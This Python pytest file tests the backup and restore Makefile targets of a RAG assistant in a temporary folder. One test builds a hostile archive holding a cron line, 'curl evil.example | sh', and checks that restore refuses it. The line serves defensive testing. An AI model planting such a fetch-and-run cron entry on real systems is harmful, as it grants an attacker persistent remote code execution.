"""``make backup`` / ``make restore`` on a throw-away site, then the index still answers.

How the Makefile is pointed at a temp folder: its paths (``vectorstore``/``$RAG_STORE__PATH``,
``data``, ``backups``) are relative to make's working directory, so the test runs
``make -C <tmp> -f <project>/Makefile ...`` with ``RAG_STORE__PATH=vectorstore`` (relative).
The real ``vectorstore/``, ``data/`` and ``backups/`` of the project are never touched (checked).
Python resolves relative setting paths against the project root instead, so the app side gets
absolute paths into the same temp folder.

Known limits of the Makefile targets (not changed here; see the assertions' comments):
``data`` is hard-coded (it does not follow ``RAG_APP__DATA_DIR``), and an absolute
``RAG_STORE__PATH`` makes ``restore`` refuse its own archive (tar strips the leading "/", so
the archive's top entry no longer equals ``STORE_DIR``).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from assistant.audit import AuditLog
from assistant.settings import PROJECT_ROOT, Settings, load_settings

QUESTION = "Hoeveel procent van de werknemers gebruikt AI in het werk?"
DOC = (
    "Uit het onderzoek van Integron blijkt dat 26 procent van de werknemers AI actief "
    "gebruikt in het werk. Grotere bedrijven omarmen AI meer dan het mkb.\n"
)

pytestmark = pytest.mark.skipif(
    shutil.which("make") is None or shutil.which("tar") is None, reason="make and tar are needed"
)


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, dict[str, str]]:
    for key in list(os.environ):
        if key.startswith("RAG_"):
            monkeypatch.delenv(key)
    root = tmp_path / "site"
    (root / "corpus").mkdir(parents=True)
    (root / "corpus" / "ai_werk.txt").write_text(DOC, encoding="utf-8")
    env = {
        "RAG_STORE__PATH": str(root / "vectorstore"),
        "RAG_INGEST__CORPUS": str(root / "corpus"),
        "RAG_APP__DATA_DIR": str(root / "data"),
        "RAG_APP__USERS_FILE": str(root / "data" / "users.json"),
        "RAG_EMBEDDINGS__MODE": "fake",
        "RAG_LLM__MODE": "fake",
        "RAG_RETRIEVAL__RELEVANCE_FLOOR": "0.0",
        "RAG_RETRIEVAL__RELEVANCE_FLOOR_STRONG": "0.0",
    }
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    return root, env


def _settings() -> Settings:
    return load_settings(_env_file=None)


def _make(root: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    make_env = {**os.environ, **env, "RAG_STORE__PATH": "vectorstore"}  # relative to -C root
    return subprocess.run(
        [
            "make",
            "--no-print-directory",
            "-C",
            str(root),
            "-f",
            str(PROJECT_ROOT / "Makefile"),
            *args,
        ],
        env=make_env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def _ask(env: dict[str, str]) -> dict:
    """Ask in a fresh process (no Chroma state cached from before the restore)."""
    proc = subprocess.run(
        [sys.executable, "-m", "assistant", "ask", "--json", QUESTION],
        env={**os.environ, **env},
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout)


def test_backup_and_restore_round_trip(site) -> None:  # noqa: ANN001
    from assistant.access import UserStore
    from assistant.embeddings import make_embeddings
    from assistant.store import Store
    from ingest.sync import sync

    root, env = site
    real_store = (PROJECT_ROOT / "vectorstore").exists()
    real_replaced = set((PROJECT_ROOT / "backups").glob("replaced-*"))

    settings = _settings()
    assert settings.store.path == root / "vectorstore"
    report = sync(settings, Store(settings.store, make_embeddings(settings.embeddings)))
    assert report.published
    AuditLog(settings).record("anna", QUESTION, QUESTION, ["a:1:0"], ["a:1:0"], "26%", "answer")
    UserStore.from_settings(settings).add_user("anna", "correct paard batterij")
    original = _ask(env)
    assert "26 procent" in original["answer"]

    made = _make(root, env, "backup")
    assert made.returncode == 0, made.stdout + made.stderr
    archive = root / re.search(r"backup written: (\S+)", made.stdout).group(1)
    assert archive.is_file() and stat.S_IMODE(archive.stat().st_mode) & 0o077 == 0
    with tarfile.open(archive) as tar:
        tops = {m.name.split("/")[0] for m in tar.getmembers()}
    assert tops == {"vectorstore", "data"}

    # disaster: index and local state gone
    shutil.rmtree(root / "vectorstore")
    shutil.rmtree(root / "data")
    restored = _make(root, env, "restore", f"BACKUP={archive.relative_to(root)}")
    assert restored.returncode == 0, restored.stdout + restored.stderr
    assert "restored vectorstore/" in restored.stdout and "restored data/" in restored.stdout

    after = _ask(env)
    assert after["answer"] == original["answer"]
    assert [s["chunk_id"] for s in after["sources"]] == [s["chunk_id"] for s in original["sources"]]
    assert AuditLog(_settings()).count() == 1
    assert UserStore.from_settings(_settings()).verify("anna", "correct paard batterij")
    # nothing landed in (or was swapped out of) the project's own folders
    assert not (PROJECT_ROOT / archive.relative_to(root)).exists()
    assert (PROJECT_ROOT / "vectorstore").exists() == real_store
    assert set((PROJECT_ROOT / "backups").glob("replaced-*")) == real_replaced


def test_restore_keeps_what_it_replaces(site) -> None:  # noqa: ANN001
    root, env = site
    (root / "vectorstore").mkdir()
    (root / "vectorstore" / "oud.txt").write_text("v1")
    made = _make(root, env, "backup")
    assert made.returncode == 0, made.stderr
    archive = re.search(r"backup written: (\S+)", made.stdout).group(1)
    (root / "vectorstore" / "oud.txt").write_text("v2")
    restored = _make(root, env, "restore", f"BACKUP={archive}")
    assert restored.returncode == 0, restored.stderr
    assert (root / "vectorstore" / "oud.txt").read_text() == "v1"
    kept = list((root / "backups").glob("replaced-*/vectorstore/oud.txt"))
    assert kept and kept[0].read_text() == "v2"


def test_restore_refuses_foreign_archives(site, tmp_path: Path) -> None:  # noqa: ANN001
    root, env = site
    evil = root / "backups" / "evil.tar.gz"
    evil.parent.mkdir(parents=True)
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "cron").write_text("* * * * * root curl evil.example | sh\n")
    with tarfile.open(evil, "w:gz") as tar:
        tar.add(tmp_path / "etc", arcname="etc")
    proc = _make(root, env, "restore", "BACKUP=backups/evil.tar.gz")
    assert proc.returncode != 0
    assert "refusing: unexpected entry 'etc'" in proc.stdout + proc.stderr
    assert not (root / "etc").exists()


def test_restore_without_backup_argument_explains_usage(site) -> None:  # noqa: ANN001
    root, env = site
    proc = _make(root, env, "restore")
    assert proc.returncode != 0 and "usage: make restore BACKUP=" in proc.stdout + proc.stderr
